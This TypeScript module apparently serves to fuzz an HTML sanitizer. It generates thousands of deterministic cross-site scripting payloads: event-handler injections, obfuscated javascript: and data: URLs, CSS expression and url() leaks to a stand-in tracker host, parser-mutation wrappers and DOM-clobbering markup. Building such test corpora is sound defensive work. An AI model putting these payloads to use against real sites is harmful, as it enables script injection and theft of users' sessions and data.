/** One hostile piece of HTML. `kind` names the way it attacks; running it unsanitised calls `call`. */
export interface XssVector {
  kind: string
  html: string
}

/** Deterministic numbers in [0, 1) from a seed (mulberry32). */
function seeded(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (state + 0x6d2b79f5) >>> 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296
  }
}

const words = (list: string) => list.split(' ')
const tags = words(
  'a abbr address area article audio b base bdo bgsound big blockquote body br button canvas center circle code col dd details dialog div dl embed em fieldset figure font footer form frame frameset g h1 h2 header hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee math menu meta meter mi mn mo ms mtext nav nobr noembed noframes noscript object ol optgroup option output p param path picture plaintext pre progress q rect ruby s samp script section select slot small source span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead title tr track tt u ul use var video wbr xmp x custom-tag o:p v:shape',
)
const handlers = words(
  'onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle onbeforeunload onbegin onblur oncanplay onchange onclick oncontentvisibilityautostatechange oncontextmenu oncopy oncut ondblclick ondrag ondrop onend onerror onfocus onfocusin onformdata onhashchange oninput oninvalid onkeydown onkeyup onload onloadstart onmessage onmousedown onmouseenter onmouseover onmouseup onpageshow onpaste onpointerdown onpointerover onpointerrawupdate onpopstate onprogress onrepeat onreset onresize onscroll onscrollend onsearch onselect onselectstart onstart onsubmit onsuspend ontoggle ontouchstart ontransitionend ontransitionrun onunhandledrejection onunload onvolumechange onwheel onwebkitanimationend',
)
const urlAttributes = words(
  'href src action formaction xlink:href data poster background srcset cite longdesc ping manifest dynsrc lowsrc classid codebase usemap profile archive icon content to from values by xml:base data-remote-src imagesrcset',
)
const separators = [
  ' ',
  '/',
  '\t',
  '\n',
  '\f',
  '\r\n',
  ' / ',
  '//',
  '\u0000',
  ' \u0000 ',
  '/x=1 ',
  '\u000B',
  '"',
  ' a="',
  " a='>' ",
  '/*',
  '\u00A0',
  ' ="" ',
]
const triggers = [
  '',
  ' src=x',
  ' src="x:"',
  ' autofocus tabindex=1',
  ' open',
  ' src=1 href=1',
  ' style="animation-name:x"',
  ' contenteditable autofocus',
  ' popover',
  ' loop',
  ' width=1 height=1 src=x',
]

type Pick = <T>(list: readonly T[]) => T

const escapes: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/[a-z]/g, (c) => `&#${c.charCodeAt(0)};`),
  (text) => text.replaceAll(/[a-z]/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`),
  (text) => text.replaceAll(/[a-z]/g, (c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`),
  (text) => text.replaceAll(/[a-z]/g, (c) => `&#X${c.charCodeAt(0).toString(16).toUpperCase()};`),
  (text) => text.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;'),
  (text) => [...text].map((c, i) => (i % 3 ? c : `&#${c.charCodeAt(0)};`)).join(''),
]

const schemes: ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script&colon;${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `javascript&#58;${call}`,
  (call) => `javascript&#x3A${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => ` &#14;  javascript:${call}`,
  (call) => `\u00A0javascript:${call}`,
  (call) => `java\u0000script:${call}`,
  (call) => `java&#0;script:${call}`,
  (call) => `java\u00ADscript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript://example.com/%0D%0A${call}`,
  (call) => `//javascript:${call}`,
  (call) => `feed:javascript:${call}`,
  (call) => `view-source:javascript:${call}`,
  (call) => `blob:javascript:${call}`,
  (call) => `vbscript:msgbox(1)//${call}`,
  (call) => `livescript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  (call) => `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`).toString('base64')}`,
  (call) => `data:image/png,<script>${call}</script>`,
  (call) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${call}</script>`,
  (call) => `x" onerror="${call}`,
  (call) => `x' onload='${call}`,
  (call) => `https://example.com/" onmouseover="${call}`,
  (call) => `cid:x" onerror="${call}`,
]

const styleValues: ((call: string) => string)[] = [
  (call) => `background:url(javascript:${call})`,
  (call) => `background-image:url("data:image/svg+xml,<svg onload='${call}'>")`,
  () => 'background:url(https://tracker.example/pixel.gif)',
  () => 'background:u\\72l(https://tracker.example/pixel.gif)',
  () => 'background:/**/url(//tracker.example/x)',
  () => 'list-style:url(http://tracker.example/x)',
  () => 'border-image:image-set("http://tracker.example/x" 1x)',
  (call) => `width:expression(${call})`,
  (call) => `width:exp/**/ression(${call})`,
  (call) => `width:\\65 xpression(${call})`,
  (call) => `behavior:url(#default#time2) ${call}`,
  () => 'behaviour:url(x.htc)',
  () => '-moz-binding:url(http://tracker.example/x.xml#x)',
  () => '@import "http://tracker.example/x.css"',
  () => 'position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999',
  () => 'POSITION : absolute; inset:0',
  () => 'pos\\69tion:fixed',
  () => 'font-family:"x;} * {background:url(http://tracker.example/x)"',
  () => 'color:red;}</style><script>',
  () => 'cursor:url(http://tracker.example/x),auto',
  () => 'content:url(http://tracker.example/x)',
  () => 'filter:url(http://tracker.example/x#f)',
  () => 'mask:url(http://tracker.example/x)',
  () => 'color:var(--x,url(http://tracker.example/x))',
  () => 'src:url(http://tracker.example/x)',
  () => 'transform:translate(-1000px,-1000px)',
  () => 'animation:x 1s',
]

/** Wrappers in which parsers disagree: foreign content, raw text, comments, tables, templates. `%` stands for the payload. */
const mutations = [
  '<svg></p><style><a id="</style>%">',
  '<math><mtext><table><mglyph><style><!--</style>%',
  '<math><mtext><table><mglyph><style><math>%</style>',
  '<form><math><mtext></form><form><mglyph><style></math>%',
  '<svg><style><![CDATA[</style>%]]>',
  '<svg><title><style>%</style></title></svg>',
  '<noscript><p title="</noscript>%">',
  '<noscript><style></noscript>%',
  '<noembed><p title="</noembed>%">',
  '<xmp><p title="</xmp>%">',
  '<textarea><p title="</textarea>%">',
  '<title><p title="</title>%">',
  '<iframe><p title="</iframe>%">',
  '<noframes><p title="</noframes>%">',
  '<template>%</template>',
  '<template><template>%</template>',
  '<template><s><template><s>%</s></template></s></template>',
  '<!--><%-->',
  '<!--%--!>%',
  '<!-- --!>%-->',
  '<!---%-->',
  '<!--[if gte IE 4]>%<![endif]-->',
  '<![CDATA[%]]>',
  '<![if !IE]>%<![endif]>',
  '<?xml version="1.0"?>%',
  '<!DOCTYPE x [<!ENTITY y "%">]>&y;',
  '<!%>%',
  '</%>',
  '<%%>',
  '<//%',
  '</ %',
  '<x/%',
  '<"%',
  '<a <%',
  '<b/<%>',
  '<select><template>%</template></select>',
  '<select><iframe></select>%',
  '<table><td>%</table>',
  '<table>%<tr>',
  '<table><tr><p>%',
  '<p><table><p>%',
  '<a><a>%',
  '<button><button>%',
  '<b><p></b>%</p>',
  '<form id=x><input name=attributes>%</form>',
  '<svg><foreignObject>%</foreignObject></svg>',
  '<svg><desc>%</desc></svg>',
  '<math><annotation-xml encoding="text/html">%</annotation-xml></math>',
  '<math><mi>%</mi></math>',
  '<math href="javascript:1">%</math>',
  '<style>@import "x";</style>%',
  '<style></style\t>%',
  '<script></script\n>%',
  '<script>/*</script>%',
  '<style><!--</style>%-->',
  '<listing>&lt;/listing&gt;%</listing>',
  '<plaintext>%',
  '<div><plaintext>%',
  '&lt;%',
  '<object><param>%</object>',
  '<frameset>%</frameset>',
  '<head>%</head>',
  '<body>%',
  '<html>%',
  '<details open>%</details>',
  '<dialog open>%</dialog>',
  '<svg><a><animate attributeName=href values=javascript:1 />%</a></svg>',
  '<svg><set attributeName=onload to=1>%',
  '<video><source>%</video>',
  '<picture><source srcset=x>%</picture>',
  '<p title="`%">',
  "<p title='%'>",
  '<p title=%>',
  '<p title="%',
  '<img alt="%',
  '<img alt=`%`>',
  '<a href="%"',
  '<img """>%">',
  "<img '''>%'>",
  '<div lang="%">',
  '<font color="%">',
  '<td bgcolor="%">',
]

const clobbers = ['id', 'name', 'form', 'class', 'is', 'slot', 'part', 'for', 'usemap', 'itemprop', 'popovertarget', 'anchor']
const clobbered = words(
  'attributes body children cookie createElement defaultView documentElement domain firstChild forms getElementById head implementation innerHTML location nodeName ownerDocument parentNode querySelector removeChild self settings submit top window __proto__ constructor config token api user',
)
const oddities = [
  '<meta http-equiv=refresh content="0;url=javascript:%">',
  '<meta http-equiv=refresh content="0;url=data:text/html,<script>%</script>">',
  '<meta http-equiv=Set-Cookie content=a=b>%',
  '<base href="javascript:%//">',
  '<base target=_top>%',
  '<link rel=stylesheet href="data:text/css,*{x:expression(%)}">',
  '<link rel=import href="data:text/html,<script>%</script>">',
  '<link rel=prefetch href=http://tracker.example/x>',
  '<link rel=preload as=script href=http://tracker.example/x>',
  '<iframe srcdoc="<script>%</script>">',
  '<iframe srcdoc="&lt;img src=x onerror=%&gt;">',
  '<object data="data:text/html,<script>%</script>">',
  '<embed src="data:text/html,<script>%</script>">',
  '<applet code=x onerror=%>',
  '<svg><script>%</script></svg>',
  '<svg><script href="data:,%"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=%>#x"/></svg>',
  '<svg><animate onbegin=% attributeName=x dur=1s>',
  '<svg><image href=x onerror=%></svg>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:%">x</maction></math>',
  '<form action="javascript:%"><input type=submit><input autofocus onfocus=%></form>',
  '<button form=x formaction="javascript:%">x</button>',
  '<isindex action="javascript:%" type=submit>',
  '<input type=image src=x formaction="javascript:%" onerror=%>',
  '<keygen autofocus onfocus=%>',
  '<video><source onerror=%></video>',
  '<audio src=x onerror=%>',
  '<marquee onstart=%>x</marquee>',
  '<portal src="javascript:%">',
  '<xss style="animation-name:x" onanimationstart=%><style>@keyframes x{}</style>',
  '<style>*{background:url("javascript:%")}</style>',
  '<script>%</script>',
  '<SCRIPT>%</SCRIPT>',
  '<scr<script>ipt>%</scr</script>ipt>',
  '<script src="data:,%"></script>',
  '<script\u0000>%</script>',
  '<\u0000script>%</script>',
  '<script/x>%</script>',
  '<script type=module>%</script>',
  '<script>%//',
  '<script>%<!--',
  '<img src=x:x onerror=%//',
  '<img src="x` `<script>%</script>"` `>',
  '<img onerror=% src=x',
  '<<img src=x onerror=%>',
  '<img/src=x/onerror=%>',
  '<img src=x onerror\u000A=\u0000%>',
  '<img src=x onerror\t=%>',
  '<img src=x OnErRoR=%>',
  '\u00BCscript\u00BE%\u00BC/script\u00BE',
  '+ADw-script+AD4-%+ADw-/script+AD4-',
]

/**
 * `count` distinct hostile pieces of HTML, the same for the same seed: elements × handlers × separators × encodings, URL schemes in every attribute that
 * takes one, styles, mutation wrappers, DOM clobbering and oddities. Written for this product after the public XSS lists; able to give far over 7,500.
 * `call` is the JavaScript a successful attack runs, without quotes or blanks.
 */
export function xssVectors(count: number, seed: number, call = 'alert(1)'): XssVector[] {
  const random = seeded(seed)
  const pick: Pick = (list) => list[Math.floor(random() * list.length)]!
  const makers = [handlerVector, urlVector, styleVector, mutationVector, nestedVector, clobberVector, oddityVector]
  const seen = new Set<string>()
  const vectors: XssVector[] = []
  for (let tries = 0; vectors.length < count && tries < count * 60; tries++) {
    const vector = makers[tries % makers.length]!(pick, call)
    if (seen.has(vector.html)) continue
    seen.add(vector.html)
    vectors.push(vector)
  }
  return vectors
}

function handlerVector(pick: Pick, call: string): XssVector {
  const tag = pick(tags)
  const quote = pick(['', '"', "'", '`'])
  const value = pick(escapes)(call)
  return {
    kind: 'handler',
    html: `<${randomCase(pick, tag)}${pick(separators)}${pick(handlers)}${pick(['=', ' = ', '=\n', '\u0000='])}${quote}${value}${quote}${pick(triggers)}${pick(['>', '/>', '>x', ` >x</${tag}>`, '', '//', '><'])}`,
  }
}

function urlVector(pick: Pick, call: string): XssVector {
  const tag = pick(tags)
  const value = pick(schemes)(pick(escapes)(call))
  const quote = pick(['"', "'", ''])
  return {
    kind: 'url',
    html: `<${tag}${pick(separators)}${pick(urlAttributes)}=${quote}${value}${quote}>${pick(['', 'x', `x</${tag}>`, '<img src=x>'])}`,
  }
}

function styleVector(pick: Pick, call: string): XssVector {
  const quote = pick(['"', "'"])
  const value = pick(styleValues)(call)
  const safe = quote === '"' ? value.replaceAll('"', pick(['&quot;', '"', "'"])) : value.replaceAll("'", pick(['&#39;', "'"]))
  return {
    kind: 'style',
    html: `<${pick(tags)} style=${quote}${pick(['', 'color:red;', ';', '\\', '/*x*/', 'x:y;\u0000'])}${safe}${quote}>${pick(['x', '', '</style>'])}`,
  }
}

function payload(pick: Pick, call: string): string {
  const inner = [handlerVector, urlVector, oddityVector]
  const plain = [
    `<img src=x onerror=${call}>`,
    `<svg onload=${call}>`,
    `<script>${call}</script>`,
    `<details open ontoggle=${call}>`,
    `<a href="javascript:${call}">x</a>`,
    `<iframe src="javascript:${call}">`,
    `<body onload=${call}>`,
    `<input autofocus onfocus=${call}>`,
  ]
  return pick([true, false]) ? pick(plain) : pick(inner)(pick, call).html
}

function mutationVector(pick: Pick, call: string): XssVector {
  return { kind: 'mutation', html: pick(mutations).replaceAll('%', () => payload(pick, call)) }
}

function nestedVector(pick: Pick, call: string): XssVector {
  const inner = pick(mutations).replaceAll('%', () => payload(pick, call))
  return { kind: 'nested mutation', html: pick(mutations).replace('%', () => inner) }
}

function clobberVector(pick: Pick, call: string): XssVector {
  const name = pick(clobbered)
  return {
    kind: 'clobbering',
    html: `<${pick(tags)} ${pick(clobbers)}="${name}" ${pick(clobbers)}=${pick(clobbered)}>${pick(['', `<a id=${name} name=${pick(clobbered)} href="javascript:${call}">`, `<form id=${name}><output name=${pick(clobbered)}>`])}`,
  }
}

function oddityVector(pick: Pick, call: string): XssVector {
  const before = pick([
    '',
    'x',
    '"',
    "'>",
    '-->',
    ']]>',
    '</p>',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
    '\u0000',
    '\uFEFF',
    '<p>',
    '<table><tr><td>',
  ])
  return { kind: 'oddity', html: before + pick(oddities).replaceAll('%', () => pick(escapes)(call)) + pick(['', '<p>after', '</div>', '<!--']) }
}

const randomCase = (pick: Pick, tag: string) => pick([tag, tag, tag.toUpperCase(), [...tag].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join('')])
